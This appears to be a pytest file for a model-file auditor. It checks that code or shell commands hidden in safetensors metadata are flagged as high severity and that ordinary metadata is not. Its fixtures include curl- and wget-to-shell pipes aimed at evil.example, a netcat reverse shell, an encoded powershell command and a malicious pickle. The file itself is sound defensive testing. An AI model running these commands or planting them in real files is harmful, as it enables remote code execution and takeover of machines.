"""safetensors `__metadata__` holding code or shell commands is `high`; ordinary metadata stays silent.

Files are written with the `safetensors` library itself, so the headers are exactly what real tools produce."""

from __future__ import annotations

import json

import numpy as np
import pytest
from safetensors.numpy import save

from auditor.scan import scan_path

MALICIOUS = {
    "os.system": "import os; os.system('id')",
    "subprocess": "__import__('subprocess').check_output(['id'])",
    "eval": "eval(compile('print(1)', 'x', 'exec'))",
    "curl_pipe_sh": "curl -fsSL https://evil.example/i.sh | sh",
    "wget_pipe_bash": "wget -qO- evil.example/x | bash",
    "powershell": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "base64_sh": "echo aWQ= | base64 -d | sh",
    "bin_sh": "/bin/sh -c 'nc -e /bin/sh 10.0.0.1 4444'",
    "lambda": "lambda x: __import__('os').system(x)",
    "pickle_protocol0": "cos\nsystem\n(S'id'\ntR.",
    "base64_python": "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=",  # "import os; os.system('id')"
}

BENIGN = {
    "format": "pt",
    "notes": "Fine-tuned for 3 epochs with lr 2e-5 and lambda: 0.01 weight decay; we used curl to fetch the data set.",
    "config": json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "torch_dtype": "float32"}),
    "modelspec.title": "tiny model",
}


def _write(tmp_path, metadata: dict[str, str]):
    p = tmp_path / "model.safetensors"
    p.write_bytes(save({"w": np.zeros((2, 3), dtype=np.float32)}, metadata=metadata))
    return scan_path(p)


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_code_in_metadata_is_high(tmp_path, case):
    r = _write(tmp_path, {"format": "pt", case: MALICIOUS[case]})
    hits = [f for f in r.findings if f.rule == "safetensors.metadata_code"]
    assert hits and {f.severity for f in hits} == {"high"}
    ev = hits[0].evidence
    assert ev["key"] == case and ev["kind"] and ev["match"] and len(ev["excerpt"]) <= 160
    assert ev["value_chars"] == len(MALICIOUS[case])
    assert hits[0].location == f"__metadata__.{case}"
    assert not r.errors


def test_matched_pattern_is_reported(tmp_path):
    r = _write(tmp_path, {"run": "curl -fsSL https://evil.example/i.sh | sh"})
    (hit,) = [f for f in r.findings if f.rule == "safetensors.metadata_code"]
    assert hit.evidence["kind"] == "shell command" and hit.evidence["match"].startswith("curl -fsSL https://")


def test_ordinary_metadata_is_silent(tmp_path):
    r = _write(tmp_path, BENIGN)
    assert r.findings == [] and not r.errors
    assert r.files[0].format == "safetensors"
